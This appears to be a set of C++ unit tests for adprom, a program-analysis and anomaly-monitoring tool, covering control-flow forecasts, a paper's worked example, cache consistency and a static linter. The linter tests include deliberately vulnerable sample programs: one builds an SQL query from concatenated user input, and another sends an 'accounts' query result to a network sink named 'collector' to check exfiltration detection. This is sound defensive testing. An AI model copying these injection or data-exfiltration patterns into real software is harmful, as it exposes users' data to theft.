  EXPECT_DOUBLE_EQ(ctm.between(0, 1), 1.0);
  EXPECT_DOUBLE_EQ(ctm.to_exit(1), 1.0);
  EXPECT_DOUBLE_EQ(ctm.entry_to_exit(), 0.0);
  EXPECT_TRUE(ctm.CheckInvariants().ok());
}

TEST(ForecastTest, ConditionalProbabilitiesSumToOne) {
  auto fc = ForecastOf(R"(
fn main() {
  var x = 1;
  if (x > 0) { print("t"); } else { print("f"); }
}
)");
  ASSERT_TRUE(fc.ok());
  for (const auto& [node, reach] : fc->reachability) {
    double out_sum = 0.0;
    bool has_out = false;
    for (const auto& [edge, p] : fc->conditional) {
      if (edge.first == node) {
        out_sum += p;
        has_out = true;
      }
    }
    if (has_out) {
      EXPECT_NEAR(out_sum, 1.0, 1e-12);
    }
  }
}

TEST(ForecastTest, BranchSplitsProbability) {
  auto fc = ForecastOf(R"(
fn main() {
  var x = 1;
  if (x > 0) { print("t"); } else { print("f"); }
}
)");
  ASSERT_TRUE(fc.ok());
  const Ctm& ctm = fc->ctm;
  ASSERT_EQ(ctm.num_sites(), 2u);
  EXPECT_DOUBLE_EQ(ctm.entry_to(0), 0.5);
  EXPECT_DOUBLE_EQ(ctm.entry_to(1), 0.5);
  EXPECT_DOUBLE_EQ(ctm.to_exit(0), 0.5);
  EXPECT_DOUBLE_EQ(ctm.to_exit(1), 0.5);
  EXPECT_TRUE(ctm.CheckInvariants().ok());
}

TEST(ForecastTest, IfWithoutElseHasPassthrough) {
  auto fc = ForecastOf(R"(
fn main() {
  var x = 1;
  if (x > 0) { print("maybe"); }
}
)");
  ASSERT_TRUE(fc.ok());
  const Ctm& ctm = fc->ctm;
  EXPECT_DOUBLE_EQ(ctm.entry_to(0), 0.5);
  EXPECT_DOUBLE_EQ(ctm.entry_to_exit(), 0.5);
  EXPECT_TRUE(ctm.CheckInvariants().ok());
}

TEST(ForecastTest, LoopBodyCountedOnce) {
  // Statically, the loop body runs once; the call pair print->print via
  // the back edge is NOT in the static CTM (the HMM learns it later).
  auto fc = ForecastOf(R"(
fn main() {
  var i = 0;
  while (i < 3) {
    print(i);
    i = i + 1;
  }
}
)");
  ASSERT_TRUE(fc.ok());
  const Ctm& ctm = fc->ctm;
  ASSERT_EQ(ctm.num_sites(), 1u);
  EXPECT_DOUBLE_EQ(ctm.between(0, 0), 0.0);
  // Entry either skips the loop (0.5) or enters it once (0.5).
  EXPECT_DOUBLE_EQ(ctm.entry_to(0), 0.5);
  EXPECT_DOUBLE_EQ(ctm.entry_to_exit(), 0.5);
  EXPECT_DOUBLE_EQ(ctm.to_exit(0), 0.5);
  EXPECT_TRUE(ctm.CheckInvariants().ok());
}

TEST(ForecastTest, MultipleCallFreePathsAreSummed) {
  // Both branches are call-free, so the pair (first, last) accumulates
  // the weight of both paths: 0.5 + 0.5 = 1.
  auto fc = ForecastOf(R"(
fn main() {
  print("first");
  var x = 1;
  if (x > 0) { x = 2; } else { x = 3; }
  print("last");
}
)");
  ASSERT_TRUE(fc.ok());
  const Ctm& ctm = fc->ctm;
  ASSERT_EQ(ctm.num_sites(), 2u);
  EXPECT_DOUBLE_EQ(ctm.between(0, 1), 1.0);
  EXPECT_TRUE(ctm.CheckInvariants().ok());
}

TEST(ForecastTest, EntryReachabilityIsOne) {
  auto fc = ForecastOf("fn main() { print(\"x\"); }");
  ASSERT_TRUE(fc.ok());
  bool found_one = false;
  for (const auto& [node, reach] : fc->reachability) {
    if (reach == 1.0) found_one = true;
    EXPECT_GE(reach, 0.0);
    EXPECT_LE(reach, 1.0 + 1e-12);
  }
  EXPECT_TRUE(found_one);
}

TEST(ForecastTest, BothBranchesReturningStaysConsistent) {
  // The CFG builder drops unreachable merge/trailing code entirely, so
  // every remaining node is reachable and the CTM stays flow-conserving.
  auto fc = ForecastOf(R"(
fn main() {
  var x = 1;
  if (x > 0) { print("a"); return; } else { print("b"); return; }
  print("dead");
}
)");
  ASSERT_TRUE(fc.ok());
  EXPECT_EQ(fc->ctm.num_sites(), 2u);  // the dead print is gone
  EXPECT_TRUE(fc->ctm.CheckInvariants().ok());
  for (const auto& [node, reach] : fc->reachability) {
    EXPECT_GT(reach, 0.0) << "node " << node << " should be reachable";
  }
}

TEST(ForecastTest, CallFreeFunctionIsPurePassthrough) {
  auto fc = ForecastOf(R"(
fn main() { noop(); }
fn noop() { var x = 1; x = x + 1; }
)",
                       "noop");
  ASSERT_TRUE(fc.ok());
  EXPECT_EQ(fc->ctm.num_sites(), 0u);
  EXPECT_DOUBLE_EQ(fc->ctm.entry_to_exit(), 1.0);
  EXPECT_TRUE(fc->ctm.CheckInvariants().ok());
}

// Property sweep: CTM invariants hold for a family of program shapes.
class ForecastInvariantTest
    : public ::testing::TestWithParam<const char*> {};

TEST_P(ForecastInvariantTest, InvariantsHold) {
  auto fc = ForecastOf(GetParam());
  ASSERT_TRUE(fc.ok()) << fc.status().ToString();
  EXPECT_TRUE(fc->ctm.CheckInvariants().ok())
      << fc->ctm.CheckInvariants().ToString() << "\n"
      << fc->ctm.ToString();
}

INSTANTIATE_TEST_SUITE_P(
    ProgramShapes, ForecastInvariantTest,
    ::testing::Values(
        "fn main() { print(\"x\"); }",
        "fn main() { var x = 1; if (x > 0) { print(\"a\"); } }",
        R"(fn main() {
  var x = 1;
  if (x > 0) { print("a"); } else { if (x > 1) { print("b"); } }
  print("c");
})",
        R"(fn main() {
  var i = 0;
  while (i < 9) {
    if (i % 2 == 0) { print("even"); }
    i = i + 1;
  }
})",
        R"(fn main() {
  var i = 0;
  while (i < 3) {
    var j = 0;
    while (j < 3) { print(j); j = j + 1; }
    i = i + 1;
  }
  print("end");
})",
        R"(fn main() {
  var x = scan();
  if (x == "a") { return; }
  print(x);
})",
        R"(fn main() {
  var r = db_query("SELECT * FROM t");
  var n = db_ntuples(r);
  var i = 0;
  while (i < n) {
    print(db_getvalue(r, i, 0));
    i = i + 1;
  }
})"));

}  // namespace
}  // namespace adprom::analysis
