// Regression tests of the static vetter (`adprom lint`): the banking
// app's concatenated-query injection is flagged with a line number, and
// every other corpus application comes back clean.

#include "analysis/dataflow/lint.h"

#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "apps/corpus.h"
#include "prog/program.h"

namespace adprom::analysis::dataflow {
namespace {

LintReport LintSource(const std::string& source, LintOptions options = {}) {
  auto program = prog::ParseProgram(source);
  EXPECT_TRUE(program.ok()) << program.status().ToString();
  auto report = RunLint(*program, options);
  EXPECT_TRUE(report.ok()) << report.status().ToString();
  return std::move(*report);
}

LintReport LintApp(const apps::CorpusApp& app) {
  return LintSource(app.source);
}

int LineOfFirst(const std::string& source, const std::string& needle) {
  int line = 1;
  size_t pos = 0;
  const size_t at = source.find(needle);
  EXPECT_NE(at, std::string::npos) << needle;
  while (pos < at) {
    if (source[pos] == '\n') ++line;
    ++pos;
  }
  return line;
}

TEST(LintCorpusTest, BankingAppInjectionIsFlaggedWithLine) {
  const apps::CorpusApp app = apps::MakeBankingApp();
  const LintReport report = LintApp(app);
  std::vector<LintFinding> injections;
  for (const LintFinding& f : report.findings) {
    if (f.category == "sql-injection") injections.push_back(f);
  }
  ASSERT_EQ(injections.size(), 1u) << report.Format(app.name);
  EXPECT_EQ(injections[0].function, "find_client");
  // The diagnostic points at the db_query call inside find_client.
  EXPECT_EQ(injections[0].line, LineOfFirst(app.source, "db_query(query)"));
  // And nothing else fires on App_b.
  EXPECT_EQ(report.findings.size(), injections.size())
      << report.Format(app.name);
  // The formatted report carries file:line diagnostics.
  const std::string text = report.Format("app_b.mini");
  EXPECT_NE(text.find("app_b.mini:"), std::string::npos);
  EXPECT_NE(text.find("[sql-injection]"), std::string::npos);
}

TEST(LintCorpusTest, CleanCorpusAppsHaveNoFindings) {
  const std::vector<apps::CorpusApp> clean = {
      apps::MakeHospitalApp(),   apps::MakeSupermarketApp(),
      apps::MakeGrepLike(),      apps::MakeGzipLike(),
      apps::MakeSedLike(),       apps::MakeBashLike(),
  };
  for (const apps::CorpusApp& app : clean) {
    const LintReport report = LintApp(app);
    EXPECT_TRUE(report.findings.empty())
        << app.name << ":\n" << report.Format(app.name);
    EXPECT_GT(report.functions_checked, 0u) << app.name;
  }
}

TEST(LintTest, UnreachableStatementIsReported) {
  const LintReport report = LintSource(R"(
fn main() {
  print("ok");
  return 0;
  print("never");
}
)");
  ASSERT_EQ(report.findings.size(), 1u) << report.Format("t");
  EXPECT_EQ(report.findings[0].category, "unreachable");
  EXPECT_EQ(report.findings[0].line, 5);
  EXPECT_EQ(report.findings[0].function, "main");
}

TEST(LintTest, DeadStoreIsReported) {
  const LintReport report = LintSource(R"(
fn main() {
  var a = 1;
  a = 2;
  print(a);
}
)");
  ASSERT_EQ(report.findings.size(), 1u) << report.Format("t");
  EXPECT_EQ(report.findings[0].category, "dead-store");
  EXPECT_EQ(report.findings[0].line, 3);
}

TEST(LintTest, DeadStoreWithSideEffectsIsNotReported) {
  // The stored result is never read, but the RHS performs a call — the
  // statement is kept for its effect and must not be flagged.
  const LintReport report = LintSource(R"(
fn main() {
  var r = db_query("DELETE FROM t WHERE id = 1");
  print("done");
}
)");
  EXPECT_TRUE(report.findings.empty()) << report.Format("t");
}

TEST(LintTest, InjectionRequiresBothConcatBuildAndUserInput) {
  // Concat-built constant query (no user input): clean.
  const LintReport constant_build = LintSource(R"(
fn main() {
  var q = "SELECT * FROM t";
  q = q + " WHERE id = 1";
  var r = db_query(q);
  print(r);
}
)");
  EXPECT_TRUE(constant_build.findings.empty())
      << constant_build.Format("t");

  // User input in a single-expression query (no incremental build): clean
  // for the injection check.
  const LintReport inline_concat = LintSource(R"(
fn main() {
  var needle = scan();
  var r = db_query("SELECT * FROM t WHERE id = " + needle);
  print(r);
}
)");
  for (const LintFinding& f : inline_concat.findings) {
    EXPECT_NE(f.category, "sql-injection") << inline_concat.Format("t");
  }

  // Both together: flagged.
  const LintReport both = LintSource(R"(
fn main() {
  var needle = scan();
  var q = "SELECT * FROM t WHERE name = '";
  q = q + needle;
  q = q + "'";
  var r = db_query(q);
  print(r);
}
)");
  bool flagged = false;
  for (const LintFinding& f : both.findings) {
    if (f.category == "sql-injection") {
      flagged = true;
      EXPECT_EQ(f.line, 7);
      EXPECT_NE(f.message.find("q"), std::string::npos);
    }
  }
  EXPECT_TRUE(flagged) << both.Format("t");
}

TEST(LintTest, SanitizedInputIsNotAnInjection) {
  const LintReport report = LintSource(R"(
fn main() {
  var needle = scan();
  var q = "SELECT * FROM t WHERE id = ";
  q = q + to_int(needle);
  var r = db_query(q);
  print(r);
}
)");
  for (const LintFinding& f : report.findings) {
    EXPECT_NE(f.category, "sql-injection") << report.Format("t");
  }
}

TEST(LintTest, ExfilOutsideMonitoredSinksIsReported) {
  // Narrow the monitored sink set so send_net is an unlabeled channel:
  // DB data flowing into it would escape the monitor's DDG labels.
  LintOptions options;
  options.monitored.sink_calls = {"print"};
  const LintReport report = LintSource(R"(
fn main() {
  var r = db_query("SELECT * FROM accounts");
  send_net("collector", r);
}
)",
                                       options);
  ASSERT_EQ(report.findings.size(), 1u) << report.Format("t");
  EXPECT_EQ(report.findings[0].category, "unlabeled-exfil");
  EXPECT_EQ(report.findings[0].line, 4);
}

TEST(LintTest, DefaultMonitoredSinksCoverExfilChannels) {
  // Under the default config every output channel is monitored, so the
  // same program is clean.
  const LintReport report = LintSource(R"(
fn main() {
  var r = db_query("SELECT * FROM accounts");
  send_net("collector", r);
}
)");
  EXPECT_TRUE(report.findings.empty()) << report.Format("t");
}

TEST(LintTest, ChecksCanBeDisabled) {
  LintOptions options;
  options.check_dead_stores = false;
  options.check_unreachable = false;
  const LintReport report = LintSource(R"(
fn main() {
  var a = 1;
  a = 2;
  print(a);
  return 0;
  print("never");
}
)",
                                       options);
  EXPECT_TRUE(report.findings.empty()) << report.Format("t");
}

TEST(LintTest, FindingsAreSortedByLine) {
  const LintReport report = LintSource(R"(
fn main() {
  var a = 1;
  a = 2;
  print(a);
  return 0;
  print("never");
}
)");
  ASSERT_EQ(report.findings.size(), 2u) << report.Format("t");
  EXPECT_EQ(report.findings[0].category, "dead-store");
  EXPECT_EQ(report.findings[1].category, "unreachable");
  EXPECT_LT(report.findings[0].line, report.findings[1].line);
}

TEST(LintTest, InfeasibleBranchIsReported) {
  const LintReport report = LintSource(R"(
fn main() {
  var x = 1;
  if (x > 2) { print("never"); } else { print("always"); }
  print("done");
}
)");
  ASSERT_EQ(report.findings.size(), 1u) << report.Format("t");
  EXPECT_EQ(report.findings[0].category, "infeasible-branch");
  EXPECT_EQ(report.findings[0].line, 4);
  EXPECT_NE(report.findings[0].message.find("always false"),
            std::string::npos);
}

TEST(LintTest, InfeasibleLoopIsReported) {
  const LintReport report = LintSource(R"(
fn main() {
  var i = 9;
  while (i < 5) { print(i); i = i + 1; }
  print("done");
}
)");
  bool flagged = false;
  for (const LintFinding& f : report.findings) {
    if (f.category == "infeasible-branch") {
      flagged = true;
      EXPECT_EQ(f.line, 4);
      EXPECT_NE(f.message.find("body never runs"), std::string::npos);
    }
  }
  EXPECT_TRUE(flagged) << report.Format("t");
}

TEST(LintTest, LiteralConditionIsNotFlagged) {
  // `if (1)` / `while (1)` are intentional idioms (the generator emits
  // them); only computed constants are lint findings.
  const LintReport report = LintSource(R"(
fn main() {
  if (1) { print("on"); }
  var stop = 0;
  while (1) {
    print("tick");
    stop = stop + 1;
    if (stop > 2) { return; }
  }
}
)");
  for (const LintFinding& f : report.findings) {
    EXPECT_NE(f.category, "infeasible-branch") << report.Format("t");
  }
}

TEST(LintTest, DivByZeroIsReported) {
  const LintReport report = LintSource(R"(
fn main() {
  var d = 0;
  print(10 / d);
}
)");
  ASSERT_EQ(report.findings.size(), 1u) << report.Format("t");
  EXPECT_EQ(report.findings[0].category, "div-by-zero");
  EXPECT_EQ(report.findings[0].line, 4);
}

TEST(LintTest, GuardedDivisionIsNotFlagged) {
  const LintReport report = LintSource(R"(
fn main() {
  var n = to_int(scan());
  if (n != 0) { print(100 / n); }
}
)");
  for (const LintFinding& f : report.findings) {
    EXPECT_NE(f.category, "div-by-zero") << report.Format("t");
  }
}

TEST(LintTest, ConstIndexOutOfBoundsIsReported) {
  const LintReport report = LintSource(R"(
fn main() {
  var r = db_query("SELECT a, b FROM t");
  print(db_getvalue(r, 0, 0));
  print(db_getvalue(r, 0, 4));
}
)");
  std::vector<LintFinding> oob;
  for (const LintFinding& f : report.findings) {
    if (f.category == "const-index-oob") oob.push_back(f);
  }
  ASSERT_EQ(oob.size(), 1u) << report.Format("t");
  EXPECT_EQ(oob[0].line, 5);
}

TEST(LintTest, IntervalChecksCanBeDisabled) {
  LintOptions options;
  options.check_infeasible_branch = false;
  options.check_div_zero = false;
  options.check_const_index = false;
  const LintReport report = LintSource(R"(
fn main() {
  var x = 1;
  if (x > 2) { print("never"); }
  var d = 0;
  print(10 / d);
  var r = db_query("SELECT a FROM t");
  print(db_getvalue(r, 0, 7));
}
)",
                                       options);
  EXPECT_TRUE(report.findings.empty()) << report.Format("t");
}

TEST(LintTest, RequiresFinalizedProgram) {
  prog::Program program;
  auto report = RunLint(program, {});
  EXPECT_FALSE(report.ok());
}

}  // namespace
}  // namespace adprom::analysis::dataflow
