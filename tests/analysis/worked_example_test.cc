// Golden test: the paper's Fig. 3 worked example. The two-function program
// below has (up to naming) the control flow of the paper's main()/f(), and
// the computed CTMs must match Tables I and II exactly. The aggregated
// pCTM is then checked against the hand-computed inline of fCTM into mCTM.

#include <gtest/gtest.h>

#include "analysis/aggregation.h"
#include "analysis/forecast.h"
#include "analysis/labeling.h"
#include "analysis/taint.h"
#include "core/analyzer.h"
#include "prog/cfg.h"
#include "prog/program.h"

namespace adprom {
namespace {

// main: branch -> print ("printf'") | print ("printf''") then optional
// db_query ("PQexec") followed by f(result).
// f(r): branch -> print("path") ("printf") | nested branch ->
// print(r) ("printf_Q[bid]", r carries targeted data) | fall through.
constexpr const char* kWorkedExample = R"(
fn main() {
  var x = 1;
  if (x < 2) {
    print("a");
  } else {
    print("b");
    if (x < 3) {
      var r = db_query("SELECT * FROM items WHERE ID = 10");
      f(r);
    }
  }
}

fn f(r) {
  var y = 1;
  if (y < 2) {
    print("path");
  } else {
    if (y < 3) {
      print(r);
    }
  }
}
)";

class WorkedExampleTest : public ::testing::Test {
 protected:
  void SetUp() override {
    auto program = prog::ParseProgram(kWorkedExample);
    ASSERT_TRUE(program.ok()) << program.status().ToString();
    program_ = std::move(program).value();
    // The paper's Tables I/II are computed with the uniform static branch
    // forecast (every conditional 0.5/0.5). The worked example's guards are
    // constants, which the abstract-interpretation refinement would prune;
    // pin the tables against the unrefined (--no-absint) baseline. The
    // refined forecast is covered by the forecast absint tests.
    core::AnalyzerOptions options;
    options.absint_refinement = false;
    core::Analyzer analyzer(std::move(options));
    auto analysis = analyzer.Analyze(program_);
    ASSERT_TRUE(analysis.ok()) << analysis.status().ToString();
    analysis_ = std::move(analysis).value();
  }

  // Transition between two sites identified by their row/col observables
  // (sites with duplicate observables are disambiguated by order).
  static int SiteByObservable(const analysis::Ctm& ctm,
                              const std::string& observable, int skip = 0) {
    for (size_t i = 0; i < ctm.num_sites(); ++i) {
      if (ctm.site(i).observable == observable && skip-- == 0) {
        return static_cast<int>(i);
      }
    }
    return -1;
  }

  prog::Program program_;
  core::AnalysisResult analysis_;
};

TEST_F(WorkedExampleTest, MainCtmMatchesTableI) {
  const analysis::Ctm& m = analysis_.function_ctms.at("main");
  ASSERT_EQ(m.num_sites(), 4u);  // printf', printf'', PQexec(db_query), f()

  const int p1 = SiteByObservable(m, "print", 0);   // printf'
  const int p2 = SiteByObservable(m, "print", 1);   // printf''
  const int q = SiteByObservable(m, "db_query");
  const int f = SiteByObservable(m, "f");
  ASSERT_GE(p1, 0);
  ASSERT_GE(p2, 0);
  ASSERT_GE(q, 0);
  ASSERT_GE(f, 0);

  // Table I, row ε.
  EXPECT_DOUBLE_EQ(m.entry_to_exit(), 0.0);
  EXPECT_DOUBLE_EQ(m.entry_to(p1), 0.5);
  EXPECT_DOUBLE_EQ(m.entry_to(p2), 0.5);
  EXPECT_DOUBLE_EQ(m.entry_to(q), 0.0);
  EXPECT_DOUBLE_EQ(m.entry_to(f), 0.0);
  // Row printf'.
  EXPECT_DOUBLE_EQ(m.to_exit(p1), 0.5);
  EXPECT_DOUBLE_EQ(m.between(p1, p2), 0.0);
  EXPECT_DOUBLE_EQ(m.between(p1, q), 0.0);
  // Row printf'': ε' = 0.25, PQexec = 0.25.
  EXPECT_DOUBLE_EQ(m.to_exit(p2), 0.25);
  EXPECT_DOUBLE_EQ(m.between(p2, q), 0.25);
  EXPECT_DOUBLE_EQ(m.between(p2, p1), 0.0);
  // Row PQexec: f() = 0.25.
  EXPECT_DOUBLE_EQ(m.between(q, f), 0.25);
  EXPECT_DOUBLE_EQ(m.to_exit(q), 0.0);
  // Row f(): ε' = 0.25.
  EXPECT_DOUBLE_EQ(m.to_exit(f), 0.25);

  EXPECT_TRUE(m.CheckInvariants().ok());
}

TEST_F(WorkedExampleTest, CalleeCtmMatchesTableII) {
  const analysis::Ctm& fctm = analysis_.function_ctms.at("f");
  ASSERT_EQ(fctm.num_sites(), 2u);

  // The print(r) site must be DDG-labeled (r carries data from db_query
  // through the call argument).
  int plain = -1;
  int labeled = -1;
  for (size_t i = 0; i < fctm.num_sites(); ++i) {
    if (fctm.site(i).labeled) {
      labeled = static_cast<int>(i);
    } else {
      plain = static_cast<int>(i);
    }
  }
  ASSERT_GE(plain, 0);
  ASSERT_GE(labeled, 0);
  EXPECT_EQ(fctm.site(plain).observable, "print");
  EXPECT_TRUE(fctm.site(labeled).observable.rfind("print_Qf_", 0) == 0)
      << fctm.site(labeled).observable;
  // The labeled site's provenance resolves to the queried table.
  ASSERT_EQ(fctm.site(labeled).source_tables.size(), 1u);
  EXPECT_EQ(fctm.site(labeled).source_tables[0], "items");

  // Table II: ε row = (0.25, 0.5, 0.25); printf -> ε' 0.5; printf_Q10 ->
  // ε' 0.25.
  EXPECT_DOUBLE_EQ(fctm.entry_to_exit(), 0.25);
  EXPECT_DOUBLE_EQ(fctm.entry_to(plain), 0.5);
  EXPECT_DOUBLE_EQ(fctm.entry_to(labeled), 0.25);
  EXPECT_DOUBLE_EQ(fctm.to_exit(plain), 0.5);
  EXPECT_DOUBLE_EQ(fctm.to_exit(labeled), 0.25);
  EXPECT_DOUBLE_EQ(fctm.between(plain, labeled), 0.0);
  EXPECT_DOUBLE_EQ(fctm.between(labeled, plain), 0.0);

  EXPECT_TRUE(fctm.CheckInvariants().ok());

  // The paper's CTV example: the CTV of printf_Q10 in fCTM is
  // <0.25, 0, 0, 0.25, 0, 0> — incoming (from ε, printf, printf_Q10) then
  // outgoing (to ε', printf, printf_Q10).
  EXPECT_DOUBLE_EQ(fctm.entry_to(labeled), 0.25);
  EXPECT_DOUBLE_EQ(fctm.between(plain, labeled), 0.0);
  EXPECT_DOUBLE_EQ(fctm.between(labeled, labeled), 0.0);
  EXPECT_DOUBLE_EQ(fctm.to_exit(labeled), 0.25);
  EXPECT_DOUBLE_EQ(fctm.between(labeled, plain), 0.0);
}

TEST_F(WorkedExampleTest, AggregatedProgramCtmIsHandComputedInline) {
  const analysis::Ctm& p = analysis_.program_ctm;
  ASSERT_EQ(p.num_sites(), 5u);  // printf', printf'', PQexec, f.printf, f.printf_Q

  const int p1 = SiteByObservable(p, "print", 0);
  const int p2 = SiteByObservable(p, "print", 1);
  const int q = SiteByObservable(p, "db_query");
  int fp = -1;
  int fq = -1;
  for (size_t i = 0; i < p.num_sites(); ++i) {
    if (p.site(i).function == "f") {
      if (p.site(i).labeled) {
        fq = static_cast<int>(i);
      } else {
        fp = static_cast<int>(i);
      }
    }
  }
  ASSERT_GE(fp, 0);
  ASSERT_GE(fq, 0);

  EXPECT_DOUBLE_EQ(p.entry_to(p1), 0.5);
  EXPECT_DOUBLE_EQ(p.entry_to(p2), 0.5);
  EXPECT_DOUBLE_EQ(p.to_exit(p1), 0.5);
  EXPECT_DOUBLE_EQ(p.to_exit(p2), 0.25);
  EXPECT_DOUBLE_EQ(p.between(p2, q), 0.25);
  // Case 1: PQexec -> f's first calls.
  EXPECT_DOUBLE_EQ(p.between(q, fp), 0.125);
  EXPECT_DOUBLE_EQ(p.between(q, fq), 0.0625);
  // Case 4 pass-through: PQexec -> ε' through call-free f paths.
  EXPECT_DOUBLE_EQ(p.to_exit(q), 0.0625);
  // Case 2: f's last calls -> ε'.
  EXPECT_DOUBLE_EQ(p.to_exit(fp), 0.125);
  EXPECT_DOUBLE_EQ(p.to_exit(fq), 0.0625);

  EXPECT_TRUE(p.CheckInvariants().ok());
}

TEST_F(WorkedExampleTest, ContextPairsCoverAllLibraryCalls) {
  const auto pairs = analysis_.ContextPairs();
  EXPECT_TRUE(pairs.count({"main", "print"}) > 0);
  EXPECT_TRUE(pairs.count({"main", "db_query"}) > 0);
  EXPECT_TRUE(pairs.count({"f", "print"}) > 0);
  EXPECT_FALSE(pairs.count({"f", "db_query"}) > 0);
  // User-function calls are not context pairs.
  EXPECT_FALSE(pairs.count({"main", "f"}) > 0);
}

}  // namespace
}  // namespace adprom
