// Corpus-wide incremental-consistency properties. The contract under
// test: a warm run over a primed summary cache is *bit-identical* to a
// cold run — same encoded pCTM bytes, same per-function CTMs, same lint
// JSON (witnesses included) — for every corpus app, every drift-corpus
// revision, any deterministic random edit sequence, and any pool size.

#include <gtest/gtest.h>

#include <cstddef>
#include <fstream>
#include <map>
#include <memory>
#include <sstream>
#include <string>
#include <vector>

#include "analysis/dataflow/lint.h"
#include "analysis/summary_cache.h"
#include "apps/corpus.h"
#include "core/analyzer.h"
#include "db/schema.h"
#include "prog/program.h"
#include "util/rng.h"
#include "util/thread_pool.h"

namespace adprom::analysis {
namespace {

#ifndef ADPROM_SOURCE_DIR
#define ADPROM_SOURCE_DIR "."
#endif

prog::Program Parse(const std::string& source) {
  auto program = prog::ParseProgram(source);
  EXPECT_TRUE(program.ok()) << program.status().ToString();
  return std::move(program).value();
}

std::string ReadFileOrDie(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  EXPECT_TRUE(in.good()) << "cannot open " << path;
  std::ostringstream buf;
  buf << in.rdbuf();
  return buf.str();
}

db::SchemaCatalog LoadCatalog(const std::string& seed_path) {
  std::vector<std::string> statements;
  std::istringstream in(ReadFileOrDie(seed_path));
  for (std::string line; std::getline(in, line);) {
    if (line.empty() || line[0] == '#') continue;
    statements.push_back(line);
  }
  auto catalog = db::BuildSchemaCatalog(statements);
  EXPECT_TRUE(catalog.ok()) << catalog.status().ToString();
  return std::move(catalog).value();
}

std::string CtmBytes(const Ctm& ctm) {
  BinaryWriter w;
  EncodeCtm(ctm, &w);
  return w.Take();
}

// Bit-level equality of everything the profile is built from.
void ExpectSameAnalysis(const core::AnalysisResult& expected,
                        const core::AnalysisResult& actual,
                        const std::string& label) {
  EXPECT_EQ(CtmBytes(expected.program_ctm), CtmBytes(actual.program_ctm))
      << label << ": pCTM bytes differ";
  ASSERT_EQ(expected.function_ctms.size(), actual.function_ctms.size())
      << label;
  for (const auto& [fn, ctm] : expected.function_ctms) {
    auto it = actual.function_ctms.find(fn);
    ASSERT_NE(it, actual.function_ctms.end()) << label << ": " << fn;
    EXPECT_EQ(CtmBytes(ctm), CtmBytes(it->second))
        << label << ": CTM bytes differ for " << fn;
  }
}

core::AnalysisResult AnalyzeOrDie(const prog::Program& program,
                                  const core::AnalyzerOptions& options) {
  auto result = core::Analyzer(options).Analyze(program);
  EXPECT_TRUE(result.ok()) << result.status().ToString();
  return std::move(result).value();
}

std::string LintJson(const prog::Program& program, AnalysisCache* cache,
                     util::ThreadPool* pool,
                     const db::SchemaCatalog& schemas) {
  dataflow::LintOptions options;
  options.witnesses = true;
  options.schemas = schemas;
  options.cache = cache;
  options.pool = pool;
  auto report = dataflow::RunLint(program, options);
  EXPECT_TRUE(report.ok()) << report.status().ToString();
  return report->FormatJson("app.mini");
}

// Every corpus app, pool sizes 0/1/3: the cold (cache-off) result is the
// reference; a cold cache-on run and a warm self-rerun must match it bit
// for bit, and the self-rerun must hit on every pass.
TEST(IncrementalPropertyTest, CorpusWarmEqualsColdAcrossPools) {
  for (const apps::CorpusApp& app : apps::MakeFullCorpus()) {
    const prog::Program program = Parse(app.source);

    core::AnalyzerOptions reference_options;
    reference_options.incremental = false;
    const core::AnalysisResult reference =
        AnalyzeOrDie(program, reference_options);

    for (const size_t workers : {size_t{0}, size_t{1}, size_t{3}}) {
      const std::string label =
          app.name + " pool=" + std::to_string(workers);
      std::unique_ptr<util::ThreadPool> pool;
      if (workers > 0) pool = std::make_unique<util::ThreadPool>(workers);

      AnalysisCache cache;
      core::AnalyzerOptions options;
      options.pool = pool.get();
      options.analysis_cache = &cache;
      const core::AnalysisResult cold = AnalyzeOrDie(program, options);
      const core::AnalysisResult warm = AnalyzeOrDie(program, options);

      ExpectSameAnalysis(reference, cold, label + " (cold)");
      ExpectSameAnalysis(reference, warm, label + " (warm)");
      EXPECT_EQ(warm.cache_stats.taint.misses, 0u) << label;
      EXPECT_EQ(warm.cache_stats.absint.misses, 0u) << label;
      EXPECT_EQ(warm.cache_stats.forecast.misses, 0u) << label;
      EXPECT_EQ(warm.aggregation_stats.cache_misses, 0u) << label;
      EXPECT_GT(warm.cache_stats.taint.hits, 0u) << label;
    }
  }
}

// Lint over the corpus: a shared cache, reused across two runs per app,
// must not change a byte of the JSON report (findings, witnesses, pruned
// feasibility replays included).
TEST(IncrementalPropertyTest, CorpusLintJsonIsCacheInvariant) {
  const db::SchemaCatalog no_schemas;
  for (const apps::CorpusApp& app : apps::MakeFullCorpus()) {
    const prog::Program program = Parse(app.source);
    const std::string reference =
        LintJson(program, nullptr, nullptr, no_schemas);

    AnalysisCache cache;
    EXPECT_EQ(LintJson(program, &cache, nullptr, no_schemas), reference)
        << app.name << " (cold cache)";
    EXPECT_EQ(LintJson(program, &cache, nullptr, no_schemas), reference)
        << app.name << " (warm cache)";
  }
}

// The drift corpus replayed as an edit sequence: one persistent cache
// carried across all six revisions (each warm run is primed with every
// revision before it), checked against a cache-off run at every step.
TEST(IncrementalPropertyTest, DriftRevisionSequenceWarmEqualsCold) {
  const std::string dir = std::string(ADPROM_SOURCE_DIR) + "/samples/drift";
  const db::SchemaCatalog base_catalog = LoadCatalog(dir + "/seed.sql");
  const db::SchemaCatalog v2_catalog = LoadCatalog(dir + "/seed_v2.sql");
  const struct {
    const char* file;
    const db::SchemaCatalog* schemas;
  } revisions[] = {
      {"rev0_base.mini", &base_catalog},
      {"rev1_body_edit.mini", &base_catalog},
      {"rev2_signature.mini", &base_catalog},
      {"rev3_new_callee.mini", &base_catalog},
      {"rev4_schema.mini", &v2_catalog},
      {"rev5_sink_relabel.mini", &base_catalog},
  };

  util::ThreadPool pool(3);
  AnalysisCache analyzer_cache;
  AnalysisCache lint_cache;
  size_t warm_hits = 0;
  for (const auto& revision : revisions) {
    const prog::Program program =
        Parse(ReadFileOrDie(dir + "/" + revision.file));

    core::AnalyzerOptions cold_options;
    cold_options.incremental = false;
    cold_options.schemas = *revision.schemas;
    const core::AnalysisResult cold = AnalyzeOrDie(program, cold_options);

    core::AnalyzerOptions warm_options;
    warm_options.schemas = *revision.schemas;
    warm_options.analysis_cache = &analyzer_cache;
    warm_options.pool = &pool;
    const core::AnalysisResult warm = AnalyzeOrDie(program, warm_options);
    ExpectSameAnalysis(cold, warm, revision.file);
    warm_hits += warm.cache_stats.taint.hits;

    EXPECT_EQ(
        LintJson(program, &lint_cache, &pool, *revision.schemas),
        LintJson(program, nullptr, nullptr, *revision.schemas))
        << revision.file;
  }
  // Each post-base revision edits a handful of the 25 functions, so the
  // carried cache must have produced real hits along the way.
